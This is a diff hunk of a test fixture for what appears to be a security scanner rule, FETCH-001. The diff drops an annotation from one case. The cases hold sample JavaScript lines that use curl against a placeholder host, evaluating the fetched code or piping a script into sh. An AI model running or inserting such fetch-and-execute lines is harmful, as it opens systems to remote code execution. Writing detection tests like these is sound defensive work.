@@ -209,7 +209,7 @@ NETWORK = (
     """),
     Case("curl for eval", "FETCH-001", HIGH, r"""
         eval(require("child_process").execSync("curl -s https://example.invalid/a").toString());
-    """, unseen="what a program fetches for the code that executes it is no chain for FETCH-001"),
+    """),
     Case("curl to a shell", "FETCH-001", HIGH, r"""
         require("child_process").exec("curl -fsSL https://example.invalid/a.sh | sh");
     """),
